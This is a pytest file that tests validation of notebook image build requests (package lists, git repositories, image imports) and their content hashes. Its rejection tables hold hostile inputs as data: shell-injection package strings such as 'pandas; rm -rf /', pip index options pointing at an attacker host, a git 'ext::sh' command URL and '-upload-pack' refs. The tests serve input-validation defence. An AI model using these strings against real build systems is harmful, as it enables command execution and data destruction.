"""Build request validation: table tests of good and hostile requests, and the two hashes."""

from __future__ import annotations

import copy
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyterhub_ov.builds.model.spec import (
    DOCKERFILE,
    NAME_MAX,
    BuildRequest,
    InvalidBuildRequest,
    ResolvedBuild,
    RuntimeEnvironment,
    SpecPolicy,
    parse_request,
)

POLICY = SpecPolicy()
NAME_ANN = "opendatahub.io/notebook-image-name"
DESC_ANN = "opendatahub.io/notebook-image-desc"


def body(spec: dict[str, Any], name: Any = "pandas", **annotations: Any) -> dict[str, Any]:
    ann = {NAME_ANN: "Pandas", DESC_ANN: "Pandas and boto3", **annotations}
    return {"metadata": {"name": name, "annotations": ann}, "spec": spec}


PACKAGES = {"buildType": "PackageList", "packageVersions": ["pandas>=2", "boto3>=1.24.0"]}


def parse(raw: Any, policy: SpecPolicy = POLICY, creator: str = "admin") -> BuildRequest:
    return parse_request(raw, creator=creator, policy=policy)


def problems(raw: Any, policy: SpecPolicy = POLICY) -> str:
    with pytest.raises(InvalidBuildRequest) as info:
        parse(raw, policy)
    return str(info.value)


def test_a_package_list_request() -> None:
    spec = dict(
        PACKAGES, runtimeEnvironment={"osName": "ubi", "osVersion": "8", "pythonVersion": "3.11"}
    )
    request = parse(body(spec), creator="ann")
    assert request == BuildRequest(
        name="pandas-notebook",
        build_type="PackageList",
        display_name="Pandas",
        description="Pandas and boto3",
        creator="ann",
        runtime_environment=RuntimeEnvironment("ubi", "8", "3.11"),
        package_versions=("boto3>=1.24.0", "pandas>=2"),  # sorted by project
    )
    assert parse(request.to_json(), creator="ann") == request  # round trip


def test_the_creator_is_always_the_requesting_user() -> None:
    raw = body(PACKAGES, **{"opendatahub.io/notebook-image-creator": "somebody-else"})
    assert parse(raw, creator="ann").creator == "ann"


def test_git_and_import_requests() -> None:
    git = parse(
        body(
            {
                "buildType": "GitRepository",
                "repositoryUrl": "https://github.com/openvinotoolkit/openvino_notebooks",
                "gitRef": "releases/2024/1",
            },
            name="ov-notebook",
        )
    )
    assert git.name == "ov-notebook" and git.git_ref == "releases/2024/1"
    imported = parse(body({"buildType": "ImportImage", "fromImage": "quay.io/org/img:1.0"}))
    assert imported.from_image == "quay.io/org/img:1.0" and imported.to_json()["spec"] == {
        "buildType": "ImportImage",
        "fromImage": "quay.io/org/img:1.0",
    }
    path = SpecPolicy(import_source="path")
    assert parse(body({"buildType": "ImportImage", "fromImage": "/srv/envs/x"}), path)


GIT = {"buildType": "GitRepository", "repositoryUrl": "https://github.com/org/nb"}
#: (body, policy) pairs every rule accepts: the schema agreement test reads them too
VALID = [
    (body(PACKAGES), POLICY),
    (body(dict(PACKAGES, runtimeEnvironment={"pythonVersion": "3.8"})), POLICY),
    (body(dict(PACKAGES, runtimeEnvironment={"osName": "ubi", "osVersion": "9"})), POLICY),
    (body(dict(PACKAGES, runtimeEnvironment=None, builderImage="quay.io/org/b:1")), POLICY),
    (body(dict(PACKAGES, runtimeEnvironment={}, builderImage="")), POLICY),
    (body(dict(PACKAGES, packageVersions=["  pandas >= 2 "])), POLICY),
    (body(PACKAGES, name="x" * (NAME_MAX - len("-notebook"))), POLICY),
    (body(PACKAGES, name="x" * (NAME_MAX - len("-notebook")) + "-notebook"), POLICY),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-url": "https://example.org/x"}), POLICY),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-url": None}), POLICY),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-creator": "someone"}), POLICY),
    (body(dict(GIT, gitRef=None)), POLICY),
    (body(dict(GIT, gitRef="v1.2", builderImage="quay.io/org/b:1")), POLICY),
    (body({"buildType": "ImportImage", "fromImage": "quay.io/org/img@sha256:" + "a" * 64}), POLICY),
    (
        body({"buildType": "ImportImage", "fromImage": "/srv/envs/x"}),
        SpecPolicy(import_source="path"),
    ),
    (
        body({"buildType": "GitRepository", "repositoryUrl": "file:///srv/repos/nb"}),
        SpecPolicy(git_schemes=("file",), git_hosts=()),
    ),
    (
        body(dict(PACKAGES, packageVersions=["pkg @ https://host/pkg.whl"])),
        SpecPolicy(allow_urls=True),
    ),
]


@pytest.mark.parametrize("raw, policy", VALID)
def test_valid_bodies(raw: dict[str, Any], policy: SpecPolicy) -> None:
    request = parse(raw, policy)
    assert parse(request.to_json(), policy) == request  # and the normalized body round-trips


BAD_PACKAGES = [
    ("--index-url http://evil.example/simple", "pip options are not allowed"),
    ("-e git+https://github.com/x/y", "pip options are not allowed"),
    ("-r /etc/passwd", "pip options are not allowed"),
    ("pandas; rm -rf /", "not a valid PEP 508 requirement"),
    ("pandas && curl evil", "not a valid PEP 508 requirement"),
    ("$(reboot)", "not a valid PEP 508 requirement"),
    ("pandas\n--extra-index-url x", "single line"),
    ("evil @ https://evil.example/evil.whl", "direct URLs are not allowed"),
    ("", "non-empty string"),
    (42, "non-empty string"),
    ("x" * 600, "longer than"),
]


@pytest.mark.parametrize("package,message", BAD_PACKAGES)
def test_hostile_packages(package: Any, message: str) -> None:
    spec = {"buildType": "PackageList", "packageVersions": ["numpy", package]}
    assert message in problems(body(spec))


def test_urls_can_be_allowed_by_the_admin() -> None:
    spec = {"buildType": "PackageList", "packageVersions": ["pkg @ https://host/pkg.whl"]}
    assert parse(body(spec), SpecPolicy(allow_urls=True)).package_versions == (
        "pkg @ https://host/pkg.whl",
    )


BAD_NAMES = [
    ("../x", "lowercase letters"),
    ("UPPER", "lowercase letters"),
    ("a--b", "lowercase letters"),
    ("-a", "lowercase letters"),
    ("a-", "lowercase letters"),
    ("9lives", "lowercase letters"),
    ("x" * 100, "too long"),
    ("x" * (NAME_MAX - len("-notebook") + 1), "too long"),
    ("", "metadata.name is required"),
    (None, "metadata.name is required"),
    (["a"], "metadata.name is required"),
    ("abc\n", "lowercase letters"),  # no line end after the name
    # its validation pod jupyter-x-notebook-<tag>-validate is a user's pod name (issue 17)
    ("jupyter-x", "must not start with 'jupyter-'"),
    ("jupyter-x-notebook", "must not start with 'jupyter-'"),
]


@pytest.mark.parametrize("name,message", BAD_NAMES)
def test_bad_names(name: Any, message: str) -> None:
    assert message in problems(body(PACKAGES, name=name))


def test_longest_name_and_suffix_handling() -> None:
    longest = "x" * (NAME_MAX - len("-notebook"))
    assert parse(body(PACKAGES, name=longest)).name == longest + "-notebook"
    assert parse(body(PACKAGES, name="a-notebook")).name == "a-notebook"


BAD_GIT_URLS = [
    ("http://github.com/a/b", "scheme must be one of https"),
    ("ext::sh -c touch% /tmp/pwned", "scheme must be one of https"),
    ("file:///etc", "scheme must be one of https"),
    ("https://evil.example/a/b", "host 'evil.example' is not allowed"),
    ("https://user:token@github.com/a/b", "must not carry credentials"),
    ("https://github.com/a/b?x=1", "query or fragment"),
    ("https://:80/a", "has no host"),
    ("https://github.com:99999/a", "is not a URL"),
    ("", "spec.repositoryUrl is required"),
]


@pytest.mark.parametrize("url,message", BAD_GIT_URLS)
def test_bad_git_urls(url: str, message: str) -> None:
    spec = {"buildType": "GitRepository", "repositoryUrl": url}
    assert message in problems(body(spec))


def test_file_urls_when_allowed() -> None:
    policy = SpecPolicy(git_schemes=("file",), git_hosts=())
    ok = {"buildType": "GitRepository", "repositoryUrl": "file:///srv/repos/nb"}
    assert parse(body(ok), policy).repository_url == "file:///srv/repos/nb"
    bad = {"buildType": "GitRepository", "repositoryUrl": "file:///srv/../etc"}
    assert "without '..'" in problems(body(bad), policy)


BAD_GIT_REFS = ["-upload-pack=evil", "a..b", "x.lock", "a b", "a~1", "a@{1}", "/x", "a\n", 1]


@pytest.mark.parametrize("ref", BAD_GIT_REFS)
def test_bad_git_refs(ref: str) -> None:
    spec = {"buildType": "GitRepository", "repositoryUrl": "https://github.com/a/b", "gitRef": ref}
    assert "spec.gitRef" in problems(body(spec))


BAD_SPECS = [
    ({"buildType": "Dockerfile"}, "spec.buildType 'Dockerfile' must be one of"),
    ({}, "spec.buildType None must be one of"),
    (dict(PACKAGES, fromImage="x"), "do not apply to a PackageList build"),
    ({"buildType": "PackageList", "packageVersions": []}, "non-empty list"),
    ({"buildType": "PackageList", "packageVersions": "pandas"}, "non-empty list"),
    ({"buildType": "PackageList", "packageVersions": ["a"] * 201}, "more than 200"),
    ({"buildType": "PackageList", "packageVersions": ["a", "A"]}, "listed more than once"),
    (dict(PACKAGES, runtimeEnvironment={"pythonVersion": "2.7"}), "must look like 3.11"),
    (dict(PACKAGES, runtimeEnvironment={"pythonVersion": "3.6"}), "older than 3.8"),
    (dict(PACKAGES, runtimeEnvironment={"python": "3.11"}), "unknown keys ['python']"),
    (dict(PACKAGES, runtimeEnvironment={"osName": "ubi; rm"}), "osName"),
    (dict(PACKAGES, runtimeEnvironment="3.11"), "must be an object"),
    (dict(PACKAGES, runtimeEnvironment={"pythonVersion": "3.11\n"}), "must look like 3.11"),
    (dict(PACKAGES, runtimeEnvironment={"osName": 8}), "osName"),
    (dict(PACKAGES, builderImage=0), "spec.builderImage must be a string"),
    (
        dict(PACKAGES, runtimeEnvironment={"pythonVersion": "3.11"}, builderImage="quay.io/a"),
        "not both",
    ),
    ({"buildType": "ImportImage", "fromImage": "Not An Image"}, "not a container image"),
    ({"buildType": "ImportImage"}, "spec.fromImage is required"),
    ({"buildType": "ImportImage", "fromImage": "quay.io/a", "packageVersions": []}, "do not"),
]


@pytest.mark.parametrize("spec,message", BAD_SPECS)
def test_bad_specs(spec: dict[str, Any], message: str) -> None:
    assert message in problems(body(spec))


BAD_BODIES = [
    ([], "must be a JSON object"),
    ("pandas", "must be a JSON object"),
    ({"metadata": [], "spec": {}}, "metadata must be an object"),
    ({"metadata": {"name": "a"}, "spec": None}, "spec must be an object"),
    (dict(body(PACKAGES), extra=1), "unknown keys ['extra']"),
    (body(PACKAGES, **{NAME_ANN: ""}), "notebook-image-name] is required"),
    (body(PACKAGES, **{DESC_ANN: None}), "notebook-image-desc] is required"),
    (body(PACKAGES, **{NAME_ANN: "x" * 101}), "longer than 100"),
    (body(PACKAGES, **{NAME_ANN: "bell\x07"}), "control characters"),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-url": "javascript:x"}), "http(s) URL"),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-url": " javascript:x"}), "http(s) URL"),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-url": "https:no-host"}), "http(s) URL"),
    (body(PACKAGES, **{"other/annotation": "x"}), "unknown keys ['other/annotation']"),
    ({"metadata": {"name": "a", "annotations": []}, "spec": PACKAGES}, "must be an object"),
    ({"metadata": {"name": "a"}, "spec": PACKAGES}, "notebook-image-name] is required"),
    (body(PACKAGES, **{"opendatahub.io/notebook-image-creator": 1}), "must be a string"),
]


@pytest.mark.parametrize("raw,message", BAD_BODIES)
def test_bad_bodies(raw: Any, message: str) -> None:
    assert message in problems(raw)


def test_all_problems_are_reported_at_once() -> None:
    spec = {"buildType": "PackageList", "packageVersions": ["-e x", "ok", "a; b"]}
    error = problems(body(spec, name="BAD", **{NAME_ANN: ""}))
    for part in ("lowercase letters", "is required", "pip options", "PEP 508"):
        assert part in error


def test_request_key_ignores_creator_and_package_order() -> None:
    a = parse(body(PACKAGES), creator="ann")
    reordered = copy.deepcopy(body(PACKAGES))
    reordered["spec"]["packageVersions"].reverse()
    b = parse(reordered, creator="bob")
    assert a.key == b.key
    other = parse(body(dict(PACKAGES, packageVersions=["pandas>=2"])))
    assert other.key != a.key
    renamed = parse(body(PACKAGES, **{NAME_ANN: "Other"}))
    assert renamed.key != a.key  # what gets published differs


def test_tag_hashes_the_resolved_content_only() -> None:
    a = parse(body(PACKAGES))
    b = parse(body(PACKAGES, **{NAME_ANN: "Renamed"}), creator="bob")
    lock = ("boto3==1.35.0", "pandas==2.2.3")
    assert ResolvedBuild(a, lock=lock).tag == ResolvedBuild(b, lock=lock).tag
    assert ResolvedBuild(a, lock=lock).tag != ResolvedBuild(a, lock=lock[:1]).tag
    assert ResolvedBuild(a, lock=lock).tag != ResolvedBuild(a, lock=lock, base="py3.12").tag
    resolved = ResolvedBuild(a, lock=lock)
    assert len(resolved.tag) == 12 and resolved.image == f"pandas-notebook:{resolved.tag}"


def test_what_the_service_sets_itself_is_kept_apart_from_the_body() -> None:
    git = {"buildType": "GitRepository", "repositoryUrl": "https://github.com/org/nb"}
    plain = parse(body(git, name="openvino"))
    fixed = replace(plain, tag="v2024", strategy=DOCKERFILE)
    extra = replace(plain, package_versions=("openvino",))
    assert plain.internal == {} and fixed.internal == {"tag": "v2024", "strategy": DOCKERFILE}
    assert extra.internal == {"package_versions": ("openvino",)}
    # the CustomNBImage body never shows them, and a body cannot ask for them
    assert fixed.to_json() == plain.to_json() == extra.to_json()
    assert len({plain.key, fixed.key, extra.key}) == 3  # but they are different builds
    assert "packageVersions" in problems(body(dict(git, packageVersions=["x"])))
    # a fixed tag replaces the content hash
    assert ResolvedBuild(fixed, commit="a" * 40).tag == "v2024"
    assert ResolvedBuild(fixed, commit="a" * 40).image == "openvino-notebook:v2024"
    assert ResolvedBuild(plain, commit="a" * 40).tag != ResolvedBuild(plain, commit="b" * 40).tag


@given(st.text(max_size=80))
def test_arbitrary_package_strings_never_crash(text: str) -> None:
    spec = {"buildType": "PackageList", "packageVersions": [text]}
    try:
        request = parse(body(spec))
    except InvalidBuildRequest as e:
        assert e.problems
        return
    (normalized,) = request.package_versions
    assert not normalized.startswith("-") and "\n" not in normalized and "@" not in normalized


@given(st.text(max_size=70))
def test_arbitrary_names_are_dns_labels_or_refused(name: str) -> None:
    try:
        request = parse(body(PACKAGES, name=name))
    except InvalidBuildRequest:
        return
    assert request.name.endswith("-notebook") and len(request.name) <= NAME_MAX
    assert request.name.replace("-", "").isalnum() and request.name.islower()
